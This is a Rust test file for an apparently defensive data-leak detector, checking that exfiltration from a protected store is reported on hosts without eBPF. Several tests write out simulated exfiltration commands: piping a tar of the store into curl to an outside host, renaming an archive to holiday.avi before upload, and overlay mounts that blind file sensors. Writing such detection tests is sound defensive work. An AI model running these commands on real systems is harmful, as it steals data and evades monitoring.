//! The leaks on a host without eBPF: told all the same, with what is estimated marked as such; ordinary work is not.

use jaga_tests::agent::Agent;
use jaga_tests::leak::{Leak, nothing_told};
use jaga_tests::net::OUT;
use jaga_tests::process::Unit;
use jaga_tests::world::{MB, World};

/// The sensors of a host whose kernel has fanotify, sock_diag and the process connector, and no more.
const RUNG_3: &str =
    "sensors: { files: rung-3, sockets: rung-3, processes: rung-3, namespaces: own }\n";

/// The sensors of a host that has nothing but inotify and packets.
const RUNG_4: &str =
    "sensors: { files: rung-4, sockets: rung-4, processes: rung-4, namespaces: own }\n";

/// A leak of store `ekg` to the host on the internet.
fn to_out(session: &str) -> Leak<'_> {
    Leak {
        rule: "store-data-leaves",
        store: "ekg",
        session,
        destination: OUT,
        scopes: &["external"],
    }
}

/// What was read is said to be estimated.
fn is_marked(agent: &Agent) {
    let alert = agent.alert("store-data-leaves", "firing", &[]);
    let summary = alert["summary"].as_str().unwrap_or_default();
    assert!(
        summary.contains("how much was read is estimated"),
        "{alert}"
    );
}

/// At 60 MB/s: on rung 3 a connection that lives for less than 250 ms has no owner, and the packets of a copy at the
/// speed of memory are not all looked at.
#[test]
fn rung_3_tar_into_curl() {
    let Some(world) = World::new("rung_3_tar_into_curl") else {
        return;
    };
    let store = world.store("ekg", 40, 5 * MB);
    let mut agent = world.agent(&[("ekg", &store)], RUNG_3);
    let before = world.net.out.received();
    let unit = Unit::new("jagat-tar3.service");
    let script = format!(
        "tar cf - {} 2>/dev/null | curl -sfT - --limit-rate 60M http://{OUT}/x",
        store.display()
    );
    unit.run(&script, 60);
    agent.metric_reaches("jaga_store_read_bytes_total", &[("store", "ekg")], 198e6);
    to_out(&unit.session()).told(&mut agent, world.net.out.received() - before);
    is_marked(&agent);
}

#[test]
fn rung_3_staged_by_one_login_and_sent_by_another() {
    let Some(world) = World::new("rung_3_staged_by_one_login_and_sent_by_another") else {
        return;
    };
    let store = world.store("ekg", 150, MB);
    let stage = world.path("stage");
    let mut agent = world.agent(&[("ekg", &store)], RUNG_3);
    let before = world.net.out.received();
    let (store, stage) = (store.display(), stage.display());
    let pack = format!("tar cf {stage}/x.tar -C {store} . && chmod 666 {stage}/x.tar");
    world.login("jagat-alice", &pack).done(60);
    let send = format!(
        "mv {stage}/x.tar {stage}/holiday.avi && curl --limit-rate 200M -sfT {stage}/holiday.avi http://{OUT}/"
    );
    world.login("jagat-bob", &send).done(60);
    to_out("login:jagat-bob").told(&mut agent, world.net.out.received() - before);
    is_marked(&agent);
}

#[test]
fn rung_3_an_overlay_over_the_store() {
    let Some(world) = World::new("rung_3_an_overlay_over_the_store") else {
        return;
    };
    let store = world.store("ekg", 40, 5 * MB);
    let shown = world.path("shown");
    let agent = world.agent(&[("ekg", &store)], RUNG_3);
    let unit = Unit::new("jagat-overlay3.service");
    let script = format!(
        "mount -t overlay overlay -o lowerdir={}:{} {}",
        store.display(),
        world.path("empty").display(),
        shown.display()
    );
    unit.run(&script, 60);
    agent.alert("sensor-blind", "firing", &[("sensor", "files")]);
    unit.run(
        &format!("cat {0}/* >/dev/null; umount {0}", shown.display()),
        60,
    );
    agent.metric_reaches("jaga_store_read_bytes_total", &[("store", "ekg")], 198e6);
}

#[test]
fn rung_3_reading_the_whole_store_and_sending_nothing() {
    let Some(world) = World::new("rung_3_reading_the_whole_store_and_sending_nothing") else {
        return;
    };
    let store = world.store("ekg", 300, MB);
    let mut agent = world.agent(&[("ekg", &store)], RUNG_3);
    let unit = Unit::new("jagat-scan3.service");
    unit.run(&format!("sha256sum {}/* >/dev/null", store.display()), 60);
    let read = agent.metric_reaches("jaga_store_read_bytes_total", &[("store", "ekg")], 297e6);
    assert!(read < 303e6, "read 300 MB, told {read}");
    nothing_told(&mut agent);
}

#[test]
fn rung_3_a_log_shipper_that_read_one_line_of_a_holder() {
    let Some(world) = World::new("rung_3_a_log_shipper_that_read_one_line_of_a_holder") else {
        return;
    };
    let store = world.store("ekg", 200, MB);
    let log = world.path("log");
    let mut agent = world.agent(&[("ekg", &store)], RUNG_3);
    let holder = Unit::new("jagat-holder3.service");
    let (store, log) = (store.display(), log.display());
    holder.run(&format!("cat {store}/* | sha256sum >{log}/line"), 60);
    agent.metric_reaches("jaga_store_read_bytes_total", &[("store", "ekg")], 198e6);
    let shipper = Unit::new("jagat-shipper3.service");
    let script = format!(
        "(cat {log}/line; head -c 500000000 /dev/zero) | curl -sfT - http://{}/",
        jaga_tests::net::LAN
    );
    shipper.run(&script, 120);
    agent.metric_reaches("jaga_sent_bytes_total", &[("scope", "internal")], 4.95e8);
    nothing_told(&mut agent);
}

#[test]
fn rung_4_tar_into_curl() {
    let Some(world) = World::new("rung_4_tar_into_curl") else {
        return;
    };
    let store = world.store("ekg", 40, 5 * MB);
    let mut agent = world.agent(&[("ekg", &store)], RUNG_4);
    let before = world.net.out.received();
    let unit = Unit::new("jagat-tar4.service");
    let script = format!(
        "tar cf - {} 2>/dev/null | curl -sfT - --limit-rate 60M http://{OUT}/x",
        store.display()
    );
    unit.run(&script, 60);
    let alert = agent.alert("store-data-leaves", "firing", &[("session", "unknown")]);
    assert_eq!(alert["destinations"][0], format!("{OUT}:80"), "{alert}");
    #[expect(clippy::cast_precision_loss, reason = "200 MB fit a double")]
    let arrived = (world.net.out.received() - before) as f64;
    let exposed = [("store", "ekg"), ("scope", "external")];
    let exposed = agent.metric_reaches("jaga_store_exposed_bytes_total", &exposed, arrived * 0.99);
    assert!(exposed < arrived * 1.01, "{exposed} of {arrived}");
    is_marked(&agent);
    agent.replay_equals_live();
}

#[test]
fn files_on_rung_4_accuse_whoever_sends() {
    let Some(world) = World::new("files_on_rung_4_accuse_whoever_sends") else {
        return;
    };
    let store = world.store("ekg", 150, MB);
    let sensors = RUNG_4.replace("sockets: rung-4", "sockets: rung-3");
    let mut agent = world.agent(&[("ekg", &store)], &sensors);
    let unit = Unit::new("jagat-mixed4.service");
    let script = format!(
        "cd {}; tar cf - . | cat >/dev/null; sleep 1; tar cf - . | curl -sfT - --limit-rate 60M http://{OUT}/x",
        store.display()
    );
    unit.run(&script, 60);
    let session = unit.session();
    let leak = to_out(&session);
    leak.names_it(&agent.alert(leak.rule, "firing", &[("session", &session)]));
    agent.replay_equals_live();
}

#[test]
fn a_rung_that_was_lost_is_told_until_somebody_answers_for_it() {
    let Some(world) = World::new("a_rung_that_was_lost_is_told_until_somebody_answers_for_it")
    else {
        return;
    };
    let store = world.store("ekg", 1, MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let rung = |agent: &Agent| agent.metric("jaga_sensor_rung", &[("sensor", "files")]);
    if rung(&agent) != Some(1.0) {
        eprintln!(
            "not run: nothing to lose: files are on rung {:?}",
            rung(&agent)
        );
        return;
    }
    agent.stop();
    // As after an update of the kernel: the kernel tells no types.
    let hide = "mount -t tmpfs none /sys/kernel/btf && exec \"$@\"";
    let older = ["unshare", "-m", "sh", "-c", hide, "sh"];
    let mut agent = world.agent_under(&older, &[("ekg", &store)]);
    agent.alert("sensor-lowered", "firing", &[("sensor", "files-rung-3")]);
    assert_eq!(rung(&agent), Some(3.0));
    agent.replay_equals_live();
}
